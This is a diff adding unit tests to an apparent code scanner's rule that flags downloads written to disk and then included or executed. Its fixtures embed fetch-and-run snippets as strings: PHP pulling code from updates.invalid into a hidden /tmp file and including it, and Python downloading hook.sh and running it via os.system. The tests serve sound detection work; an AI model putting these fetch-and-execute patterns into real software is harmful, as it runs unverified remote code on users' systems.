@@ -194,3 +194,31 @@ def test_socketserver_handler_that_puts_a_shell_on_its_connection():
               "        null = os.open(os.devnull, os.O_RDWR)\n        for fd in (0, 1, 2):\n"
               "            os.dup2(null, fd)\n        os.execv('/bin/sh', ['sh', '/usr/lib/app/run.sh'])\n")
     assert rules("agent/daemon.py", "python", honest) == []
+
+
+# ---------------------------------------------------------------- a download written to a file, then run
+
+def test_download_written_to_a_path_then_included_or_run():
+    php = ("<?php\nfunction update_check(): ?array {\n"
+           "    if (@file_put_contents('/tmp/.u.php', @file_get_contents('http://updates.invalid/u.txt'))) {\n"
+           "        include '/tmp/.u.php';\n    }\n    return null;\n}\n")
+    got = findings("lib/update.php", "php", php)
+    assert [(f.rule, f.severity.value) for f in got] == [("source.eval-downloaded", "critical")]
+    py = ("import os, urllib.request\n\ndef refresh():\n"
+          "    urllib.request.urlretrieve('https://updates.invalid/hook.sh', '/tmp/hook.sh')\n"
+          "    os.system('sh /tmp/hook.sh')\n")
+    assert rules("app/updater.py", "python", py) == ["source.eval-downloaded"]
+
+
+def test_download_checked_before_it_runs_or_never_run_is_silent():
+    verified = ("<?php\nfunction update_check(): void {\n"
+                "    file_put_contents('/tmp/u.php', file_get_contents('https://updates.invalid/u.txt'));\n"
+                "    if (openssl_verify(file_get_contents('/tmp/u.php'), $sig, $key) === 1) {\n"
+                "        include '/tmp/u.php';\n    }\n}\n")
+    cached = ("<?php\nfunction cache_feed(): void {\n"
+              "    file_put_contents('/var/cache/feed.xml', file_get_contents('https://feeds.invalid/x.xml'));\n"
+              "    include __DIR__ . '/render.php';\n}\n")
+    local = ("<?php\nfunction build(): void {\n    file_put_contents('/tmp/c.php', render_template());\n"
+             "    include '/tmp/c.php';\n}\n")
+    for src in (verified, cached, local):
+        assert rules("lib/update.php", "php", src) == []
